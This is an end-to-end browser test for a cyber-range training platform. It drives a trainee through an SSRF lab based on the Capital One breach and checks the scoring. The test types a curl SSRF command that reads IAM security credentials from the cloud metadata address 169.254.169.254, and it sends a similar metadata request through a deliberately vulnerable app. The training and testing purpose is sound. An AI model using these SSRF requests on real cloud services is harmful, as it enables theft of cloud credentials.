// A cloud-incident lab in the browser, as a trainee meets it: Metadata
// Heist from the catalogue, the SSRF typed in the lab terminal, the
// answer scored, the vulnerable app opened in its own tab, the lab stopped.
// Needs the workstation image (sakimori images build -workstation); CI has it.
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { mkdirSync } from 'node:fs'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { launchBrowser, missing, startRange, watchConsole } from './range.mjs'

const workstation = spawnSync('docker', ['image', 'inspect', 'sakimori-lab/workstation:latest'], { stdio: 'ignore' }).status === 0
const skip =
  missing() ??
  (workstation || process.env.SAKIMORI_TEST_WORKSTATION ? false : 'no workstation image (sakimori images build -workstation)')
const shots = process.env.SAKIMORI_SCREENSHOTS
let range, chrome

after(async () => {
  await chrome?.close()
  await range?.stop()
})

test('Metadata Heist in the browser: SSRF in the terminal, answer scored, the app in a tab', { skip }, async () => {
  range = await startRange({ SAKIMORI_REGISTRATION: 'open' })
  chrome = await launchBrowser()
  assert.ok(range.labs, 'labs need the engine')
  const ctx = await chrome.browser.newContext({ viewport: { width: 1400, height: 860 }, colorScheme: 'light' })
  const page = await ctx.newPage()
  const errors = watchConsole(page)

  // An admin first (the range is fresh), then a trainee by open registration.
  await page.goto(range.url + '/setup')
  await page.getByLabel('Setup code').fill(range.setupCode)
  await page.getByLabel('Your email').fill('admin@academy.test')
  await page.getByLabel('Display name').fill('Aiko Tanaka')
  await page.getByLabel('Password').fill('frontier guard 2026')
  await page.getByRole('button', { name: 'Create administrator' }).click()
  await page.getByRole('heading', { name: 'Welcome, Aiko Tanaka' }).waitFor()

  const trainee = await chrome.browser.newContext({ viewport: { width: 1400, height: 860 }, colorScheme: 'light' })
  const tpage = await trainee.newPage()
  const terrors = watchConsole(tpage)
  await tpage.goto(range.url + '/register')
  await tpage.getByLabel('Email').fill('mei@academy.test')
  await tpage.getByLabel('Display name').fill('Mei')
  await tpage.getByLabel('Password').fill('cloud defender 2026')
  await tpage.getByRole('button', { name: 'Create account' }).click()
  await tpage.getByRole('heading', { name: 'Welcome, Mei' }).waitFor()

  // The catalogue, filtered to the incident; the scenario page; launch.
  await tpage.getByLabel('Incident', { exact: true }).selectOption('Capital One data breach')
  await tpage.getByRole('link', { name: 'Metadata Heist' }).click()
  await tpage.getByRole('heading', { name: 'Defence track' }).waitFor()
  if (shots) (mkdirSync(shots, { recursive: true }), await tpage.screenshot({ path: join(shots, 'scenario-heist.png') }))
  await tpage.getByRole('button', { name: 'Launch lab' }).click()
  await tpage.getByText('Connected').waitFor({ timeout: 90000 })

  // The SSRF, by hand, from the lab terminal.
  await tpage.locator('[data-testid=terminal]').click()
  await tpage.keyboard.type('curl -s "$WEB/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"; echo\n')
  // The command line does not name the role; only the stolen answer does.
  await tpage.waitForFunction(() => document.querySelector('.xterm-rows')?.textContent?.includes('web-app-role'), null, { timeout: 20000 })

  const answer = tpage.getByLabel('Answer for Which IAM role does the web app\'s instance run as?')
  await answer.fill('not-the-role')
  await tpage.getByRole('button', { name: 'Submit' }).first().click()
  await tpage.getByText('That is not the answer.').waitFor()
  await answer.fill('web-app-role')
  await tpage.getByRole('button', { name: 'Submit' }).first().click()
  await tpage.getByText('Correct: +100 points.').waitFor()
  await tpage.getByText('100 points · 1 solved').waitFor()
  if (shots) await tpage.screenshot({ path: join(shots, 'lab-heist.png') })

  // The vulnerable app, in its own tab, through the platform.
  const [app] = await Promise.all([trainee.waitForEvent('page'), tpage.getByRole('button', { name: 'Acme Link Preview ↗' }).click()])
  await app.getByRole('heading', { name: 'Acme Link Preview' }).waitFor()
  await app.getByLabel('URL').fill('http://169.254.169.254/latest/meta-data/instance-id')
  await app.getByRole('button', { name: 'Preview' }).click()
  await app.getByText('i-0a3f9c2e7b1d45e68').waitFor()
  // Its links are relative, so they stay inside the lab's address.
  await app.goBack()
  await app.getByRole('link', { name: 'API documentation' }).click()
  await app.getByText('GET /admin/fetch-policy').waitFor()
  await app.close()

  tpage.once('dialog', (d) => d.accept())
  await tpage.getByRole('button', { name: 'Stop lab' }).click()
  await tpage.getByRole('heading', { name: 'Welcome, Mei' }).waitFor()
  assert.deepEqual(errors, [])
  assert.deepEqual(terrors, [])
})
